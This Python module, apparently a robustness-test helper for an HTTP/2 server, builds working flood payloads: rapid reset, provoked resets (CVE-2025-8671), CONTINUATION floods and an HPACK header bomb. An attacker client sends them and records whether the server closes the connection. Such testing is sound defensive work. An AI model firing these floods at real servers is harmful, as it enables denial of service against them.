"""Floods of HTTP/2 frames: each costs its sender little, and its receiver much if that is not bounded."""

import contextlib
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
_POST = [(":method", "POST"), (":scheme", "http"), (":path", "/flood"), (":authority", "program")]
_BATCH = 200
FLOOD_WITHIN_S = 2.0


@dataclass(frozen=True)
class Flood:
    name: str
    begin: bytes
    batches: int
    closes: bool
    """Whether no innocent client does this, so that the connection has to be closed for it."""

    def batch(self, number: int) -> bytes:
        return b"".join(_FRAMES[self.name](number * _BATCH + index) for index in range(_BATCH))


def _head(stream: int, *flags: str, block: bytes | None = None) -> bytes:
    frame = HeadersFrame(stream, data=Encoder().encode(_POST) if block is None else block)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def _settings(number: int) -> bytes:
    return SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 60_000 + number % 1000}).serialize()


def _reset(number: int) -> bytes:
    stream = 2 * number + 1
    return _head(stream, "END_HEADERS", "END_STREAM") + RstStreamFrame(stream, error_code=8).serialize()


def _wrong(number: int) -> bytes:
    """A request that its receiver has to reset (CVE-2025-8671): data after its end."""
    stream = 2 * number + 1
    return _head(stream, "END_HEADERS", "END_STREAM") + DataFrame(stream, data=b"x").serialize()


def _continuation(number: int) -> bytes:
    block = b"\x00\x06x-%04d\x7f\x87\x01" % (number % 10_000) + b"a" * 262
    return ContinuationFrame(1, data=block).serialize()


def _bomb(number: int) -> bytes:
    """First a value of 3 kB for the table, then heads of nothing but references to it."""
    stream = 2 * number + 1
    block = Encoder().encode(_POST)
    if number == 0:
        return _head(stream, "END_HEADERS", "END_STREAM", block=block + b"\x40\x01a\x7f\xb9\x16" + b"b" * 3000)
    return _head(stream, "END_HEADERS", "END_STREAM", block=block + b"\xbe" * 1_500)


def _unknown(_: int) -> bytes:
    return b"\x00\x00\x08\xfa\x00\x00\x00\x00\x00" + bytes(8)


def _one(frame: Frame) -> bytes:
    return frame.serialize()


_FRAMES = {
    "rapid reset": _reset,
    "resets that are asked for": _wrong,
    "ping": lambda _: _one(PingFrame(0, opaque_data=b"12345678")),
    "settings": _settings,
    "empty settings": lambda _: _one(SettingsFrame(0)),
    "continuation": _continuation,
    "empty continuation": lambda _: _one(ContinuationFrame(1)),
    "empty data": lambda _: _one(DataFrame(1)),
    "padding only": lambda _: _one(DataFrame(1, pad_length=0, flags=["PADDED"])),
    "header bomb": _bomb,
    "priority": lambda number: _one(PriorityFrame(2 * number + 1, depends_on=0)),
    "window of one": lambda _: _one(WindowUpdateFrame(0, window_increment=1)),
    "unknown frames": _unknown,
}
_OPEN = _head(1, "END_HEADERS")
_HALF = _head(1)
FLOODS = (
    Flood("rapid reset", b"", 100, closes=True),
    Flood("resets that are asked for", b"", 100, closes=True),
    Flood("ping", b"", 200, closes=True),
    Flood("settings", b"", 200, closes=True),
    Flood("empty settings", b"", 200, closes=True),
    Flood("continuation", _HALF, 200, closes=True),
    Flood("empty continuation", _HALF, 200, closes=True),
    Flood("empty data", _OPEN, 200, closes=True),
    Flood("padding only", _OPEN, 200, closes=True),
    Flood("header bomb", b"", 10, closes=True),
    Flood("priority", b"", 200, closes=False),
    Flood("window of one", b"", 200, closes=True),
    Flood("unknown frames", b"", 200, closes=False),
)


class Attacker:
    """A client that floods. Whether it `reads` what it is answered decides which buffers fill up."""

    def __init__(self, sock: socket.socket, flood: Flood, *, reads: bool) -> None:
        self._sock, self._flood, self._reads = sock, flood, reads
        self.closed = threading.Event()
        self.was_closed = False
        """By the other side."""
        self.stuck = False
        """The other side stopped reading."""

    def batches(self) -> Iterator[int]:
        """Send one batch for each turn, until the connection is closed or the flood is over."""
        reader = threading.Thread(target=self._read)
        if self._reads:
            reader.start()
        try:
            self._sock.sendall(PREFACE + self._flood.begin)
            for number in range(self._flood.batches):
                if self.closed.is_set():
                    return
                self._sock.sendall(self._flood.batch(number))
                yield number
            if self._reads and self._flood.closes:
                self.closed.wait(FLOOD_WITHIN_S)
        except TimeoutError:
            self.stuck = True
        except OSError:
            self.closed.set()
        finally:
            self.was_closed = self.closed.is_set()
            with contextlib.suppress(OSError):
                self._sock.shutdown(socket.SHUT_RDWR)
            if self._reads:
                reader.join()
            self._sock.close()

    def _read(self) -> None:
        with contextlib.suppress(ConnectionError):
            while True:
                try:
                    if not self._sock.recv(65536):
                        break
                except TimeoutError:
                    continue
        self.closed.set()
